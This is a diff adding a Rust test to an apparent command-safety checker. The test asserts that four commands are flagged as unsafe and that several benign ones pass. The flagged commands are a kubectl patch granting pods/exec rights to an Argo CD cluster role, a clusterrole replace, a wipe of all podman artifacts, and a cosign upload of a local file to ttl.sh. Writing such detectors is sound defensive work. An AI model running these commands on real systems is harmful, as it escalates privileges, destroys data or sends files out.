@@ -301,3 +301,23 @@ fn shadowed_directory_printers_and_pathy_name_printers_are_unverifiable() {
         clean(cmd);
     }
 }
+
+/// After the end measurement (devdocsp, toolsdocsc, session 53; their
+/// figures were taken before this): an RBAC role patched in place, every
+/// OCI artifact removed, a local file uploaded by cosign passed.
+#[test]
+fn rbac_patches_artifact_wipes_and_cosign_uploads_are_flagged() {
+    common::not_clean(&[
+        "kubectl patch clusterrole argocd-server-clusterrole-name --type='json' -p='[{\"op\": \"add\", \"path\": \"/rules/-\", \"value\": {\"apiGroups\": [\"*\"], \"resources\": [\"pods/exec\"], \"verbs\": [\"create\"]}}]'",
+        "kubectl replace -f role.yaml clusterrole",
+        "podman artifact rm -a",
+        "cosign upload blob -f artifact ttl.sh/x",
+    ]);
+    for cmd in [
+        "kubectl patch deployment web -p '{\"spec\":{\"replicas\":2}}'",
+        "podman artifact rm quay.io/x/y:1",
+        "kubectl get clusterrole",
+    ] {
+        clean(cmd);
+    }
+}
